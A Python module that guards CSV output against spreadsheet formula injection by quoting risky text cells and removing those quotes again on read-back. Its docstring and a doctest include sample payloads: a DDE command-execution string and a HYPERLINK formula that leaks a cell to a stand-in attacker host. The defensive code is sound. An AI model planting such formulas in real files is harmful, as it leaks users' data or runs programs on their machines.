"""Cell values made safe to write, and read back unchanged.

**Formulas.** A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK(...)`` can leak data, DDE payloads such as
``=cmd|' /C calc'!A0`` run programs); tab and carriage return start one too. With
``excel=True`` such a text cell gets a single quote in front, as OWASP recommends ("CSV
Injection"). So that reading a folder back (``--resume``) stays exact, a text cell that already
starts with a quote gets one too (a spreadsheet hides one leading quote). Text columns are the
schema's ``string`` columns (:mod:`reportparse.tables.schema`); numeric, boolean and date
columns are never changed, nor is any cell of a plain CSV or of Parquet.

**Text that is not valid Unicode.** The ``path`` columns already hold file names escaped by
:func:`reportparse.tables.names.escape_text`; any other cell holding a surrogate (which no UTF-8
writer accepts) is escaped the same way here, so that a writer never fails on one.
"""

from __future__ import annotations

from collections.abc import Callable

import pandas as pd

from reportparse.tables.names import SURROGATES, escape_text
from reportparse.tables.schema import TABLES

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""

_QUOTE = "'"
_NUMBER = r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?"


def neutralise_formula(text: str) -> str:
    """``'`` before a cell a spreadsheet would run as a formula (or that starts with ``'``).

    >>> neutralise_formula('=HYPERLINK("http://evil.example/?leak="&A1,"Bax")'), neutralise_formula("1-ci bənd")
    ('\\'=HYPERLINK("http://evil.example/?leak="&A1,"Bax")', '1-ci bənd')
    """
    return _QUOTE + text if text.startswith((*FORMULA_TRIGGERS, _QUOTE)) else text


def restore_formula(text: str) -> str:
    """The inverse of :func:`neutralise_formula`."""
    return text[1:] if text.startswith(_QUOTE) else text


def _text_columns(frame: pd.DataFrame, table: str | None) -> list[tuple[str, bool]]:
    """(column, known to the schema) for every column holding text: the schema's ``string``
    columns, and columns it does not know whose values are strings or objects."""
    known = TABLES.get(table) if table else None
    names = []
    for name in frame.columns:
        if known is not None and name in known:
            if known.column(name).type == "string":
                names.append((name, True))
        elif frame[name].dtype == object or isinstance(frame[name].dtype, pd.StringDtype):
            names.append((name, False))
    return names


def _texts(values: pd.Series) -> tuple[pd.Series, pd.Series]:
    """The values as strings (``""`` for anything else) and which values are strings."""
    strings = values.map(lambda value: isinstance(value, str)).astype(bool)
    return values.astype(object).where(strings, ""), strings


def _change(values: pd.Series, which: pd.Series, change: Callable[[str], str]) -> pd.Series:
    if not which.any():
        return values
    changed = values.astype(object).copy()
    changed[which] = [change(value) for value in changed[which]]
    return changed.astype(values.dtype) if isinstance(values.dtype, pd.StringDtype) else changed


def _formulas(text: pd.Series, strings: pd.Series, known: bool) -> pd.Series:
    starts = text.str.startswith((*FORMULA_TRIGGERS, _QUOTE)).astype(bool) & strings
    if not known:  # a column the schema does not know: a number such as -2 stays a number
        starts &= ~text.str.fullmatch(_NUMBER).astype(bool)
    return starts


def safe_cells(frame: pd.DataFrame, table: str | None = None, *, excel: bool = False) -> pd.DataFrame:
    """A table any writer accepts: surrogates escaped, and formulas neutralised when ``excel``.

    Args:
        frame: the table.
        table: its name in the schema registry (which columns are text); None: every column of
            strings or objects is text.
        excel: neutralise formulas (:func:`neutralise_formula`).

    Returns:
        ``frame`` itself when nothing needs changing, else a changed copy.
    """
    changed = {}
    for name, known in _text_columns(frame, table):
        values = original = frame[name]
        if values.dtype == object:  # pandas string columns cannot hold a surrogate at all
            text, strings = _texts(values)
            values = _change(values, strings & text.str.contains(SURROGATES).astype(bool), escape_text)
        if excel:
            text, strings = _texts(values)
            values = _change(values, _formulas(text, strings, known), neutralise_formula)
        if values is not original:
            changed[name] = values
    return frame.assign(**changed) if changed else frame


def restore_cells(frame: pd.DataFrame, table: str | None = None) -> pd.DataFrame:
    """The inverse of ``safe_cells(..., excel=True)`` for a table read back from a CSV that was
    written for Excel (it starts with a BOM).

    Args:
        frame: the table as read (every value a string).
        table: its name in the schema registry.

    Returns:
        The table with the quotes :func:`neutralise_formula` added taken away.
    """
    changed = {}
    for name, _known in _text_columns(frame, table):
        original = frame[name]
        text, strings = _texts(original)
        values = _change(original, strings & text.str.startswith(_QUOTE).astype(bool), restore_formula)
        if values is not original:
            changed[name] = values
    return frame.assign(**changed) if changed else frame
